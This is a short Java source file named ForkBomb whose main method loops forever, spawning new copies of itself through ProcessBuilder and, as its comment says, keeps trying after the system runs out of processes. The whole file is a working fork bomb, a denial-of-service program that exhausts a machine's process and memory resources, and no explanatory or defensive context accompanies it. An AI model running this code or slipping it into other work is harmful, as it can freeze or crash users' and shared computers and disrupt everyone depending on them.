public class ForkBomb {
    public static void main(String[] args) {
        while (true) {
            try {
                new ProcessBuilder("java", "-cp", ".", "ForkBomb").start();
            } catch (Exception e) {
                // out of processes: keep trying
            }
        }
    }
}
